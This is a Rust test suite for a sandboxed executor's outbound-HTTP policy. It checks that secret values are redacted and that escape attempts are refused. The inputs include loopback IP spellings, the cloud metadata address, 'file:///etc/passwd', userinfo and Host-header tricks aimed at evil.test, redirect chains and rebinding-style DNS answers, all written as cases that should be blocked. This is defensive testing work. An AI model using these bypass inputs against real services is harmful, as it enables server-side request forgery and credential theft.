//! Catalysts against a local HTTP server that stands in for the remote API: every egress
//! escape is refused with its documented error type, and the allowed call still works.
//!
//! The executor is driven directly (`Executor::run_catalyst`) with the `catalyst-probe`
//! fixture (tests/fixtures/catalyst-probe), which calls the host functions it is told to and
//! returns every answer, and with the real catalysts under components/catalysts. Test traffic
//! goes to 127.0.0.1 only; names other than `localhost` are answered by a test resolver.

use std::collections::{BTreeMap, HashMap};
use std::convert::Infallible;
use std::net::IpAddr;
use std::path::{Path, PathBuf};
use std::pin::Pin;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex, OnceLock};
use std::task::{Context, Poll};
use std::time::{Duration, Instant};

use bytes::Bytes;
use cyfr_core::host_api::Egress;
use cyfr_host::egress::{BoxFuture, Options, Resolve};
use cyfr_host::executor::{CatalystCtx, ExecError, ExecOutcome, Executor, Limits};
use http_body_util::{BodyExt, Full};
use hyper::body::{Body, Frame, Incoming};
use serde_json::{json, Value};

const REF: &str = "catalyst:test.probe:0.1.0";
const SECRET: &str = "sk-test-SECRET-0123456789abcdef";

// ---------------------------------------------------------------------------------------
// Building and running the components

fn workspace_dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR"))
        .parent()
        .unwrap()
        .to_path_buf()
}

const PACKAGES: &[&str] = &[
    "catalyst-probe",
    "http-catalyst",
    "claude-catalyst",
    "json-transform",
];

fn wasm(package: &str) -> &'static [u8] {
    cyfr_test_guests::guest(package)
}

fn executor() -> &'static Executor {
    static EXEC: OnceLock<Executor> = OnceLock::new();
    EXEC.get_or_init(|| {
        let exec =
            Executor::new(&workspace_dir().join("target/wasm/catalyst-tests-cache")).unwrap();
        for p in PACKAGES {
            exec.put_artifact(&Executor::digest_of(wasm(p)), wasm(p))
                .unwrap();
        }
        exec
    })
}

fn digest(package: &str) -> String {
    Executor::digest_of(wasm(package))
}

/// Egress allowing `localhost` (GET and POST), with the given private networks.
fn egress(private: &[&str]) -> Egress {
    Egress {
        allowed_domains: vec!["localhost".into()],
        allowed_methods: vec!["GET".into(), "POST".into()],
        rules: vec![],
        allowed_private_ips: private.iter().map(|s| s.to_string()).collect(),
        max_request_bytes: 1 << 20,
        max_response_bytes: 5 << 20,
        max_requests: 100,
    }
}

fn loopback() -> Egress {
    egress(&["127.0.0.1/32"])
}

fn ctx(egress: Egress) -> CatalystCtx {
    let mut secrets = BTreeMap::new();
    secrets.insert("API_KEY".to_string(), SECRET.to_string());
    CatalystCtx::new(REF, secrets, egress)
}

fn run_probe(ctx: &CatalystCtx, calls: Value) -> (Vec<Value>, ExecOutcome) {
    run_probe_limits(ctx, calls, &Limits::default())
}

fn run_probe_limits(ctx: &CatalystCtx, calls: Value, limits: &Limits) -> (Vec<Value>, ExecOutcome) {
    let input = json!({ "calls": calls }).to_string();
    let outcome = executor()
        .run_catalyst(&digest("catalyst-probe"), &input, limits, ctx)
        .unwrap();
    let out: Value = serde_json::from_str(&outcome.output).unwrap();
    (out["results"].as_array().unwrap().clone(), outcome)
}

/// Compiles the probe (once per process) so timings measure only the run.
fn warm() {
    run_probe(&ctx(loopback()), json!([]));
}

fn fetch(url: &str) -> Value {
    json!({ "fn": "fetch", "req": { "method": "GET", "url": url } })
}

fn error_type(answer: &Value) -> &str {
    answer["error"]["type"]
        .as_str()
        .unwrap_or_else(|| panic!("expected an error, got {answer}"))
}

fn assert_no_secret(outcome: &ExecOutcome) {
    for text in [&outcome.output, &outcome.stdout, &outcome.stderr] {
        assert!(!text.contains(SECRET), "the secret leaked: {text}");
    }
    for r in &outcome.refusals {
        assert!(
            !format!("{r:?}").contains(SECRET),
            "the secret leaked into a refusal: {r:?}"
        );
    }
}

// ---------------------------------------------------------------------------------------
// The stand-in remote API

#[derive(Clone, Debug)]
struct Recorded {
    method: String,
    path: String,
    headers: Vec<(String, String)>,
    body: Vec<u8>,
}

impl Recorded {
    fn header(&self, name: &str) -> Option<&str> {
        self.headers
            .iter()
            .find(|(k, _)| k == name)
            .map(|(_, v)| v.as_str())
    }
}

/// A tiny HTTP/1.1 server on 127.0.0.1 that records every request. Routes:
/// `/ok`, `/echo` (method, path, headers and body back as JSON), `/redirect?to=URL[&code=N]`,
/// `/slow?ms=N`, `/big?n=N[&chunked=1]`, `/stream?chunks=N&ms=M`, `/bytes`, `/token` (the
/// `x-api-key` it got, inside a base64 token), `/v1/messages`.
struct TestServer {
    port: u16,
    log: Arc<Mutex<Vec<Recorded>>>,
    stop: Option<tokio::sync::oneshot::Sender<()>>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl TestServer {
    fn start() -> TestServer {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let port = listener.local_addr().unwrap().port();
        let log: Arc<Mutex<Vec<Recorded>>> = Arc::default();
        let (stop, mut stopped) = tokio::sync::oneshot::channel::<()>();
        let server_log = log.clone();
        let thread = std::thread::spawn(move || {
            let rt = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .unwrap();
            rt.block_on(async move {
                let listener = tokio::net::TcpListener::from_std(listener).unwrap();
                loop {
                    tokio::select! {
                        _ = &mut stopped => break,
                        accepted = listener.accept() => {
                            let Ok((stream, _)) = accepted else { continue };
                            let log = server_log.clone();
                            tokio::spawn(async move {
                                let service = hyper::service::service_fn(move |req| handle(req, log.clone(), port));
                                let _ = hyper::server::conn::http1::Builder::new()
                                    .serve_connection(hyper_util::rt::TokioIo::new(stream), service)
                                    .await;
                            });
                        }
                    }
                }
            });
        });
        TestServer {
            port,
            log,
            stop: Some(stop),
            thread: Some(thread),
        }
    }

    fn url(&self, path: &str) -> String {
        format!("http://localhost:{}{path}", self.port)
    }

    fn requests(&self) -> Vec<Recorded> {
        self.log.lock().unwrap().clone()
    }
}

impl Drop for TestServer {
    fn drop(&mut self) {
        let _ = self.stop.take().map(|s| s.send(()));
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

/// A response body fed from a channel, for chunked and slow responses.
struct ChannelBody(tokio::sync::mpsc::Receiver<Bytes>);

impl Body for ChannelBody {
    type Data = Bytes;
    type Error = Infallible;
    fn poll_frame(
        mut self: Pin<&mut Self>,
        cx: &mut Context<'_>,
    ) -> Poll<Option<Result<Frame<Bytes>, Infallible>>> {
        self.0.poll_recv(cx).map(|c| c.map(|b| Ok(Frame::data(b))))
    }
}

type Resp = hyper::Response<http_body_util::combinators::BoxBody<Bytes, Infallible>>;

fn full(status: u16, content_type: &str, body: impl Into<Bytes>) -> Resp {
    hyper::Response::builder()
        .status(status)
        .header("content-type", content_type)
        .body(Full::new(body.into()).boxed())
        .unwrap()
}

fn chunked(chunks: Vec<Bytes>, delay: Duration) -> Resp {
    let (tx, rx) = tokio::sync::mpsc::channel(4);
    tokio::spawn(async move {
        for c in chunks {
            tokio::time::sleep(delay).await;
            if tx.send(c).await.is_err() {
                return;
            }
        }
    });
    hyper::Response::builder()
        .header("content-type", "text/event-stream")
        .body(ChannelBody(rx).boxed())
        .unwrap()
}

async fn handle(
    req: hyper::Request<Incoming>,
    log: Arc<Mutex<Vec<Recorded>>>,
    port: u16,
) -> Result<Resp, Infallible> {
    let method = req.method().to_string();
    let path = req.uri().path().to_string();
    let query: HashMap<String, String> =
        url::form_urlencoded::parse(req.uri().query().unwrap_or("").as_bytes())
            .into_owned()
            .collect();
    let headers: Vec<(String, String)> = req
        .headers()
        .iter()
        .map(|(k, v)| {
            (
                k.to_string(),
                String::from_utf8_lossy(v.as_bytes()).into_owned(),
            )
        })
        .collect();
    let body = req
        .into_body()
        .collect()
        .await
        .map(|b| b.to_bytes().to_vec())
        .unwrap_or_default();
    log.lock().unwrap().push(Recorded {
        method: method.clone(),
        path: path.clone(),
        headers: headers.clone(),
        body: body.clone(),
    });
    let num = |k: &str, d: u64| query.get(k).and_then(|v| v.parse().ok()).unwrap_or(d);
    Ok(match path.as_str() {
        "/ok" => full(200, "text/plain", "hello"),
        "/echo" => {
            let h: serde_json::Map<String, Value> =
                headers.iter().map(|(k, v)| (k.clone(), json!(v))).collect();
            let echo = json!({ "method": method, "path": path, "headers": h, "body": String::from_utf8_lossy(&body) });
            let mut r = full(200, "application/json", echo.to_string());
            // An upstream that reflects a credential in a header too.
            if let Some(key) = headers.iter().find(|(k, _)| k == "x-api-key") {
                r.headers_mut()
                    .insert("x-echoed-key", key.1.parse().unwrap());
            }
            r
        }
        // An upstream that wraps the credential it got in a base64 token.
        "/token" => {
            use base64::Engine as _;
            let key = headers
                .iter()
                .find(|(k, _)| k == "x-api-key")
                .map_or("", |(_, v)| v.as_str());
            let token = base64::engine::general_purpose::STANDARD
                .encode(format!("user=bob;key={key};exp=1"));
            full(
                200,
                "application/json",
                json!({ "token": token }).to_string(),
            )
        }
        // An upstream that echoes the credential in the spellings web frameworks use.
        "/escaped" => {
            let key = headers
                .iter()
                .find(|(k, _)| k == "x-api-key")
                .map_or("", |(_, v)| v.as_str());
            let lower_pct: String = key.bytes().map(|b| format!("%{b:02x}")).collect();
            let json_u: String = key
                .chars()
                .map(|c| format!("\\u{:04x}", c as u32))
                .collect();
            let html: String = key.chars().map(|c| format!("&#{};", c as u32)).collect();
            use base64::Engine as _;
            let b64 = base64::engine::general_purpose::STANDARD.encode(key.repeat(3));
            let wrapped: Vec<String> = b64
                .as_bytes()
                .chunks(20)
                .map(|c| String::from_utf8_lossy(c).into_owned())
                .collect();
            full(
                200,
                "text/plain",
                format!(
                    "pct={lower_pct}\njson={json_u}\nhtml={html}\npem=\n{}\n",
                    wrapped.join("\n")
                ),
            )
        }
        // An upstream that compresses although it was asked for identity.
        "/gzip" => hyper::Response::builder()
            .status(200)
            .header("content-encoding", "gzip")
            .body(Full::new(Bytes::from_static(b"\x1f\x8b\x08\x00not-really")).boxed())
            .unwrap(),
        "/redirect" => {
            let to = query
                .get("to")
                .cloned()
                .unwrap_or_else(|| format!("http://localhost:{port}/ok"));
            hyper::Response::builder()
                .status(num("code", 302) as u16)
                .header("location", to)
                .body(Full::new(Bytes::new()).boxed())
                .unwrap()
        }
        "/loop" => hyper::Response::builder()
            .status(302)
            .header("location", "/loop")
            .body(Full::new(Bytes::new()).boxed())
            .unwrap(),
        "/slow" => {
            tokio::time::sleep(Duration::from_millis(num("ms", 1000))).await;
            full(200, "text/plain", "slow done")
        }
        "/big" => {
            let n = num("n", 1000) as usize;
            if query.contains_key("chunked") {
                let chunks = (0..n.div_ceil(100))
                    .map(|i| Bytes::from(vec![b'x'; 100.min(n - i * 100)]))
                    .collect();
                chunked(chunks, Duration::ZERO)
            } else {
                full(200, "text/plain", vec![b'x'; n])
            }
        }
        "/stream" => {
            let chunks = (0..num("chunks", 3))
                .map(|i| Bytes::from(format!("data: {{\"n\":{i}}}\n\n")))
                .collect();
            chunked(chunks, Duration::from_millis(num("ms", 10)))
        }
        "/bytes" => full(
            200,
            "application/octet-stream",
            vec![0xff, 0xfe, 0x00, 0x41],
        ),
        "/v1/messages" | "/v1/models" => anthropic(&path, &body),
        _ => full(404, "text/plain", "not found"),
    })
}

/// Anthropic's Messages API, as far as the claude catalyst needs it.
fn anthropic(path: &str, body: &[u8]) -> Resp {
    if path == "/v1/models" {
        return full(
            200,
            "application/json",
            json!({"data": [{"id": "claude-test", "type": "model"}]}).to_string(),
        );
    }
    let req: Value = serde_json::from_slice(body).unwrap_or(Value::Null);
    if req["max_tokens"].as_u64().is_none() {
        let err = json!({"type": "error", "error": {"type": "invalid_request_error", "message": "max_tokens: Field required"}});
        return full(400, "application/json", err.to_string());
    }
    let text = format!(
        "echo: {}",
        req["messages"][0]["content"].as_str().unwrap_or("")
    );
    if req["stream"] == json!(true) {
        let events = [
            json!({"type": "message_start", "message": {"id": "msg_test", "model": req["model"]}}),
            json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": text}}),
            json!({"type": "message_stop"}),
        ];
        let chunks = events
            .iter()
            .map(|e| {
                Bytes::from(format!(
                    "event: {}\ndata: {e}\n\n",
                    e["type"].as_str().unwrap()
                ))
            })
            .collect();
        return chunked(chunks, Duration::from_millis(5));
    }
    let resp = json!({
        "id": "msg_test", "type": "message", "role": "assistant", "model": req["model"],
        "content": [{"type": "text", "text": text}],
        "stop_reason": "end_turn", "usage": {"input_tokens": 3, "output_tokens": 2},
    });
    full(200, "application/json", resp.to_string())
}

/// A resolver for test names; counts lookups. Anything else fails.
struct TestResolver {
    names: HashMap<&'static str, Vec<IpAddr>>,
    lookups: AtomicUsize,
}

impl TestResolver {
    fn new(names: &[(&'static str, &[&str])]) -> Arc<TestResolver> {
        Arc::new(TestResolver {
            names: names
                .iter()
                .map(|(n, ips)| (*n, ips.iter().map(|i| i.parse().unwrap()).collect()))
                .collect(),
            lookups: AtomicUsize::new(0),
        })
    }
}

impl Resolve for TestResolver {
    fn resolve<'a>(
        &'a self,
        host: &'a str,
        _port: u16,
    ) -> BoxFuture<'a, std::io::Result<Vec<IpAddr>>> {
        self.lookups.fetch_add(1, Ordering::SeqCst);
        let answer =
            self.names.get(host).cloned().ok_or_else(|| {
                std::io::Error::new(std::io::ErrorKind::NotFound, "no such test name")
            });
        Box::pin(async move { answer })
    }
}

fn with_resolver(mut ctx: CatalystCtx, resolver: Arc<TestResolver>) -> CatalystCtx {
    ctx.options = Options {
        resolver,
        ..Options::default()
    };
    ctx
}

// ---------------------------------------------------------------------------------------
// The allowed path, and secrets

#[test]
fn injected_secret_reaches_the_server_but_never_the_guest_or_the_output() {
    let server = TestServer::start();
    let calls = json!([
        {"fn": "fetch", "req": {
            "method": "POST", "url": server.url("/echo"),
            "headers": {"x-api-key": "{{secret:API_KEY}}", "authorization": "Bearer {{secret:API_KEY}}", "content-type": "application/json"},
            "body": "{\"key\":\"{{secret:API_KEY}}\",\"note\":\"{{secret: API_KEY }}\"}",
        }},
    ]);
    let (results, outcome) = run_probe(&ctx(loopback()), calls);
    let answer = &results[0];
    assert_eq!(answer["status"], 200, "{answer}");
    // The server got the real value, in the headers and the body.
    let reqs = server.requests();
    assert_eq!(reqs.len(), 1);
    assert_eq!(reqs[0].header("x-api-key"), Some(SECRET));
    assert_eq!(
        reqs[0].header("authorization"),
        Some(format!("Bearer {SECRET}").as_str())
    );
    assert_eq!(
        String::from_utf8_lossy(&reqs[0].body),
        format!("{{\"key\":\"{SECRET}\",\"note\":\"{SECRET}\"}}")
    );
    // The guest saw the echo with the secret redacted, in the body and the headers.
    let echo: Value = serde_json::from_str(answer["body"].as_str().unwrap()).unwrap();
    assert_eq!(echo["headers"]["x-api-key"], "[REDACTED]");
    assert_eq!(
        echo["headers"]["host"],
        format!("localhost:{}", server.port)
    );
    assert_eq!(answer["headers"]["x-echoed-key"], "[REDACTED]");
    assert!(!answer.to_string().contains(SECRET));
    assert_no_secret(&outcome);
    assert!(outcome.refusals.is_empty(), "{:?}", outcome.refusals);
}

#[test]
fn a_secret_wrapped_in_base64_by_the_upstream_is_redacted_too() {
    use base64::Engine as _;
    let server = TestServer::start();
    let calls = json!([
        {"fn": "fetch", "req": {"method": "GET", "url": server.url("/token"), "headers": {"x-api-key": "{{secret:API_KEY}}"}}},
    ]);
    let (results, outcome) = run_probe(&ctx(loopback()), calls);
    assert_eq!(results[0]["status"], 200, "{}", results[0]);
    let wrapped =
        base64::engine::general_purpose::STANDARD.encode(format!("user=bob;key={SECRET};exp=1"));
    let body: Value = serde_json::from_str(results[0]["body"].as_str().unwrap()).unwrap();
    let token = body["token"].as_str().unwrap();
    assert!(token.contains("[REDACTED]"), "{token}");
    // The parts outside the key are still there; the key's part is not.
    assert!(token.starts_with(&wrapped[..8]), "{token} vs {wrapped}");
    assert!(!token.contains(&wrapped[20..36]), "{token} vs {wrapped}");
    assert_no_secret(&outcome);
}

#[test]
fn secrets_read_returns_granted_values_and_access_denied_for_others() {
    let server = TestServer::start();
    let calls = json!([
        {"fn": "secret", "name": "API_KEY"},
        {"fn": "secret", "name": "OTHER_KEY"},
        {"fn": "fetch", "req": {"method": "GET", "url": server.url("/echo"), "headers": {"x-api-key": "{{secret:OTHER_KEY}}"}}},
        {"fn": "print_secret", "name": "API_KEY"},
        {"fn": "fetch", "req": {"method": "GET", "url": server.url("/ok"), "headers": {"x-api-key": "{{secret:API_KEY}}"}}},
    ]);
    let (results, outcome) = run_probe(&ctx(loopback()), calls);
    // The guest may read a granted secret; the host still scrubs it from what it returns.
    assert_eq!(results[0]["ok"], "[REDACTED]");
    assert_eq!(
        results[1]["err"],
        format!("access-denied: OTHER_KEY not granted to {REF}")
    );
    assert_eq!(error_type(&results[2]), "http_error");
    assert_eq!(
        results[2]["error"]["message"],
        format!("access-denied: OTHER_KEY not granted to {REF}")
    );
    assert_eq!(results[4]["status"], 200);
    assert_eq!(outcome.stdout, "the secret is [REDACTED]\n");
    assert_eq!(outcome.stderr, "the secret is [REDACTED]\n");
    assert_no_secret(&outcome);
    // Only the allowed request reached the server.
    let reqs = server.requests();
    assert_eq!(reqs.len(), 1, "{reqs:?}");
    assert_eq!(reqs[0].path, "/ok");
}

#[test]
fn multipart_base64_bodies_and_binary_responses() {
    let server = TestServer::start();
    let calls = json!([
        {"fn": "fetch", "req": {"method": "POST", "url": server.url("/echo"), "multipart": [
            {"name": "file", "filename": "a.bin", "content_type": "application/octet-stream", "data": "AAEC/w=="},
            {"name": "token", "value": "{{secret:API_KEY}}"},
        ]}},
        {"fn": "fetch", "req": {"method": "POST", "url": server.url("/echo"), "body": "aGVsbG8=", "body_encoding": "base64"}},
        {"fn": "fetch", "req": {"method": "GET", "url": server.url("/bytes")}},
        {"fn": "fetch", "req": {"method": "GET", "url": server.url("/ok"), "response_encoding": "base64"}},
        {"fn": "fetch", "req": {"method": "POST", "url": server.url("/echo"), "body": "x", "multipart": []}},
    ]);
    let (results, outcome) = run_probe(&ctx(loopback()), calls);
    let reqs = server.requests();
    let ct = reqs[0].header("content-type").unwrap();
    assert!(ct.starts_with("multipart/form-data; boundary="), "{ct}");
    let body = &reqs[0].body;
    assert!(body.windows(4).any(|w| w == [0, 1, 2, 0xff]));
    assert!(String::from_utf8_lossy(body).contains(SECRET));
    assert!(String::from_utf8_lossy(body).contains("filename=\"a.bin\""));
    assert_eq!(reqs[1].body, b"hello");
    assert_eq!(results[2]["body_encoding"], "base64");
    assert_eq!(results[2]["body"], "//4AQQ==");
    assert_eq!(results[3]["body"], "aGVsbG8=");
    assert_eq!(results[3]["body_encoding"], "base64");
    assert_eq!(error_type(&results[4]), "http_error");
    assert_eq!(reqs.len(), 4);
    assert_no_secret(&outcome);
}

#[test]
fn a_guest_cannot_choose_the_host_header() {
    let server = TestServer::start();
    let calls = json!([{"fn": "fetch", "req": {"url": server.url("/echo"), "headers": {"Host": "evil.test", "Transfer-Encoding": "chunked"}}}]);
    let (results, _) = run_probe(&ctx(loopback()), calls);
    assert_eq!(results[0]["status"], 200);
    let reqs = server.requests();
    assert_eq!(
        reqs[0].header("host"),
        Some(format!("localhost:{}", server.port).as_str())
    );
    assert_eq!(reqs[0].header("transfer-encoding"), None);
}

// ---------------------------------------------------------------------------------------
// Escapes

#[test]
fn ip_literals_in_any_spelling_are_domain_blocked() {
    let server = TestServer::start();
    let p = server.port;
    let urls = [
        format!("http://127.0.0.1:{p}/ok"),
        format!("http://2130706433:{p}/ok"),
        format!("http://0x7f.1:{p}/ok"),
        format!("http://0x7f000001:{p}/ok"),
        format!("http://0177.0.0.1:{p}/ok"),
        format!("http://127.1:{p}/ok"),
        format!("http://[::1]:{p}/ok"),
        format!("http://[::ffff:127.0.0.1]:{p}/ok"),
        "http://169.254.169.254/latest/meta-data/".to_string(),
    ];
    // Even with the loopback network opened and the literal listed as a "domain".
    let mut e = loopback();
    e.allowed_domains.push("127.0.0.1".into());
    let mut calls: Vec<Value> = urls.iter().map(|u| fetch(u)).collect();
    calls.push(fetch(&server.url("/ok")));
    let (results, outcome) = run_probe(&ctx(e), json!(calls));
    for (url, r) in urls.iter().zip(&results) {
        assert_eq!(error_type(r), "domain_blocked", "{url}: {r}");
    }
    assert_eq!(results[urls.len()]["status"], 200);
    assert_eq!(results[urls.len()]["body"], "hello");
    let reqs = server.requests();
    assert_eq!(reqs.len(), 1, "only the allowed call may arrive: {reqs:?}");
    assert_eq!(outcome.refusals.len(), urls.len());
    assert!(outcome.refusals.iter().all(|r| r.kind == "domain_blocked"));
}

#[test]
fn userinfo_schemes_and_unlisted_hosts_are_domain_blocked() {
    let server = TestServer::start();
    let p = server.port;
    let urls = [
        format!("http://localhost:{p}@evil.test/ok"),
        format!("http://user:pw@localhost:{p}/ok"),
        format!("http://evil.test:{p}/ok"),
        format!("http://LOCALHOST.evil.test:{p}/ok"),
        "file:///etc/passwd".to_string(),
        format!("ftp://localhost:{p}/"),
    ];
    let mut calls: Vec<Value> = urls.iter().map(|u| fetch(u)).collect();
    calls.push(fetch(&format!("http://LocalHost.:{p}/ok")));
    let (results, _) = run_probe(&ctx(loopback()), json!(calls));
    for (url, r) in urls.iter().zip(&results) {
        assert_eq!(error_type(r), "domain_blocked", "{url}: {r}");
    }
    // Mixed case and a trailing dot are the same host.
    assert_eq!(
        results[urls.len()]["status"],
        200,
        "{}",
        results[urls.len()]
    );
    assert_eq!(server.requests().len(), 1);
}

#[test]
fn redirects_are_rechecked_at_every_hop() {
    let server = TestServer::start();
    let p = server.port;
    let enc = |u: &str| url::form_urlencoded::byte_serialize(u.as_bytes()).collect::<String>();
    let calls = json!([
        fetch(&server.url(&format!("/redirect?to={}", enc("http://evil.test/")))),
        fetch(&server.url(&format!(
            "/redirect?to={}",
            enc(&format!("http://127.0.0.1:{p}/ok"))
        ))),
        fetch(&server.url(&format!(
            "/redirect?to={}",
            enc("http://169.254.169.254/latest/meta-data/")
        ))),
        fetch(&server.url(&format!(
            "/redirect?code=307&to={}",
            enc("http://2130706433/")
        ))),
        fetch(&server.url("/loop")),
        fetch(&server.url(&format!("/redirect?to={}", enc("/ok")))),
    ]);
    let (results, outcome) = run_probe(&ctx(loopback()), calls);
    for r in &results[..4] {
        assert_eq!(error_type(r), "domain_blocked", "{r}");
        assert!(
            r["error"]["message"]
                .as_str()
                .unwrap()
                .starts_with("redirect 1 to "),
            "{r}"
        );
    }
    assert_eq!(error_type(&results[4]), "http_error");
    assert!(results[4]["error"]["message"]
        .as_str()
        .unwrap()
        .contains("more than 3 redirects"));
    // A redirect within policy is followed.
    assert_eq!(results[5]["status"], 200);
    assert_eq!(results[5]["body"], "hello");
    // No request ever reached a refused target: only /redirect, /loop (1 + 3 hops) and /ok.
    let paths: Vec<String> = server.requests().iter().map(|r| r.path.clone()).collect();
    assert_eq!(
        paths,
        [
            "/redirect",
            "/redirect",
            "/redirect",
            "/redirect",
            "/loop",
            "/loop",
            "/loop",
            "/loop",
            "/redirect",
            "/ok"
        ]
    );
    assert_eq!(outcome.refusals.len(), 5);
}

#[test]
fn cross_origin_redirects_do_not_resend_credentials() {
    let server = TestServer::start();
    let resolver = TestResolver::new(&[
        ("localhost", &["127.0.0.1"]),
        ("other.test", &["127.0.0.1"]),
    ]);
    let mut e = loopback();
    e.allowed_domains.push("other.test".into());
    let c = with_resolver(ctx(e), resolver);
    let to = url::form_urlencoded::byte_serialize(
        format!("http://other.test:{}/echo", server.port).as_bytes(),
    )
    .collect::<String>();
    let same = url::form_urlencoded::byte_serialize(b"/echo").collect::<String>();
    let headers =
        json!({"x-api-key": "{{secret:API_KEY}}", "authorization": "Bearer x", "x-plain": "kept"});
    let calls = json!([
        {"fn": "fetch", "req": {"url": server.url(&format!("/redirect?to={to}")), "headers": headers}},
        {"fn": "fetch", "req": {"url": server.url(&format!("/redirect?to={same}")), "headers": headers}},
        {"fn": "fetch", "req": {"method": "POST", "url": server.url(&format!("/redirect?code=307&to={to}")), "body": "k={{secret:API_KEY}}"}},
    ]);
    let (results, outcome) = run_probe(&c, calls);
    let reqs = server.requests();
    let other = &reqs[1];
    assert_eq!(
        other.header("host"),
        Some(format!("other.test:{}", server.port).as_str())
    );
    assert_eq!(other.header("x-api-key"), None);
    assert_eq!(other.header("authorization"), None);
    assert_eq!(other.header("x-plain"), Some("kept"));
    assert_eq!(results[0]["status"], 200);
    // Same origin: the secret goes along.
    assert_eq!(reqs[3].header("x-api-key"), Some(SECRET));
    // A 307 to another origin would resend a body with a secret: refused.
    assert_eq!(error_type(&results[2]), "http_error", "{}", results[2]);
    assert_eq!(reqs.len(), 5, "{reqs:?}");
    assert_no_secret(&outcome);

    // A value the guest read itself (secrets/read) and sent raw is held back the same way,
    // in a header and in a body.
    let calls = json!([
        {"fn": "fetch", "req": {"url": server.url(&format!("/redirect?to={to}")), "headers": {"x-token": SECRET, "x-plain": "kept"}}},
        {"fn": "fetch", "req": {"method": "POST", "url": server.url(&format!("/redirect?code=307&to={to}")), "body": format!("k={SECRET}")}},
    ]);
    let (results, outcome) = run_probe(&c, calls);
    let reqs = &server.requests()[5..];
    assert_eq!(reqs[0].header("x-token"), Some(SECRET), "same origin: sent");
    assert_eq!(reqs[1].header("x-token"), None, "{:?}", reqs[1]);
    assert_eq!(reqs[1].header("x-plain"), Some("kept"));
    assert_eq!(results[0]["status"], 200);
    assert_eq!(error_type(&results[1]), "http_error", "{}", results[1]);
    assert_eq!(reqs.len(), 3, "{reqs:?}");
    assert_no_secret(&outcome);
}

#[test]
fn names_resolving_to_loopback_are_private_ip_blocked() {
    let server = TestServer::start();
    // `localhost` really resolves to 127.0.0.1 (and maybe ::1); without allowed_private_ips
    // (or with a network that does not hold it) the connection is never made.
    let calls = json!([
        fetch("http://localhost/ok"),
        fetch(&format!("http://localhost:{}/ok", server.port))
    ]);
    let (results, outcome) = run_probe(&ctx(egress(&[])), calls.clone());
    assert_eq!(
        error_type(&results[0]),
        "private_ip_blocked",
        "{}",
        results[0]
    );
    assert_eq!(
        error_type(&results[1]),
        "domain_blocked",
        "odd port with no private network: {}",
        results[1]
    );
    let (results, _) = run_probe(&ctx(egress(&["10.0.0.0/8"])), calls);
    assert_eq!(error_type(&results[0]), "private_ip_blocked");
    assert_eq!(error_type(&results[1]), "private_ip_blocked");
    assert!(server.requests().is_empty());
    assert_eq!(outcome.refusals[0].kind, "private_ip_blocked");
    assert_eq!(outcome.refusals[0].url, "http://localhost/ok");
    // Opened explicitly, the same name works.
    let (results, _) = run_probe(&ctx(loopback()), json!([fetch(&server.url("/ok"))]));
    assert_eq!(results[0]["status"], 200);
}

#[test]
fn names_resolving_to_metadata_or_private_addresses_are_private_ip_blocked() {
    let server = TestServer::start();
    let resolver = TestResolver::new(&[
        ("metadata.test", &["169.254.169.254"]),
        ("mapped.test", &["::ffff:169.254.169.254"]),
        ("nat64.test", &["64:ff9b::a9fe:a9fe"]),
        ("lan.test", &["192.168.1.10", "10.0.0.1"]),
        ("cgnat.test", &["100.64.0.1"]),
        ("ula.test", &["fd12:3456::1"]),
        ("zero.test", &["0.0.0.0"]),
        // A name with a refused address and an allowed one: only the allowed one is used.
        ("api.test", &["169.254.169.254", "127.0.0.1"]),
    ]);
    let mut e = loopback();
    e.allowed_domains = vec!["*.test".into()];
    let c = with_resolver(ctx(e), resolver.clone());
    let blocked = ["metadata", "mapped", "nat64", "lan", "cgnat", "ula", "zero"];
    let mut calls: Vec<Value> = blocked
        .iter()
        .map(|n| fetch(&format!("http://{n}.test:{}/ok", server.port)))
        .collect();
    calls.push(fetch(&format!("http://api.test:{}/ok", server.port)));
    calls.push(fetch(&format!("http://nowhere.test:{}/ok", server.port)));
    let (results, _) = run_probe(&c, json!(calls));
    for (n, r) in blocked.iter().zip(&results) {
        assert_eq!(error_type(r), "private_ip_blocked", "{n}: {r}");
    }
    assert_eq!(
        results[blocked.len()]["status"],
        200,
        "{}",
        results[blocked.len()]
    );
    assert_eq!(error_type(&results[blocked.len() + 1]), "dns_error");
    // One lookup per request: the connection goes to the address that was checked, with no
    // second lookup that a rebinding DNS server could answer differently.
    assert_eq!(resolver.lookups.load(Ordering::SeqCst), blocked.len() + 2);
    assert_eq!(server.requests().len(), 1);
}

#[test]
fn wrong_method_is_method_blocked() {
    let server = TestServer::start();
    let calls = json!([
        {"fn": "fetch", "req": {"method": "DELETE", "url": server.url("/ok")}},
        {"fn": "fetch", "req": {"method": "put", "url": server.url("/ok")}},
        {"fn": "fetch", "req": {"method": "get", "url": server.url("/ok")}},
    ]);
    let (results, _) = run_probe(&ctx(loopback()), calls);
    assert_eq!(error_type(&results[0]), "method_blocked");
    assert_eq!(error_type(&results[1]), "method_blocked");
    assert_eq!(results[2]["status"], 200);
    assert_eq!(server.requests().len(), 1);
}

#[test]
fn requests_outside_the_rules_are_refused() {
    let server = TestServer::start();
    let mut e = loopback();
    e.rules = vec![
        "POST localhost/v1/messages".into(),
        "GET localhost/ok".into(),
    ];
    let calls = json!([
        {"fn": "fetch", "req": {"method": "POST", "url": server.url("/echo")}},
        {"fn": "fetch", "req": {"method": "POST", "url": server.url("/v1/messages-evil")}},
        {"fn": "fetch", "req": {"method": "POST", "url": server.url("/v1/messages/../../echo")}},
        {"fn": "fetch", "req": {"method": "GET", "url": server.url("/v1/messages")}},
        {"fn": "fetch", "req": {"method": "POST", "url": server.url("/v1/messages"), "body": "{\"max_tokens\":1,\"messages\":[{\"content\":\"x\"}]}"}},
        {"fn": "fetch", "req": {"method": "GET", "url": server.url("/ok")}},
    ]);
    let (results, _) = run_probe(&ctx(e), calls);
    assert_eq!(error_type(&results[0]), "domain_blocked");
    assert_eq!(error_type(&results[1]), "domain_blocked");
    assert_eq!(error_type(&results[2]), "domain_blocked");
    assert_eq!(error_type(&results[3]), "method_blocked");
    assert_eq!(results[4]["status"], 200);
    assert_eq!(results[5]["status"], 200);
    assert_eq!(server.requests().len(), 2);
}

#[test]
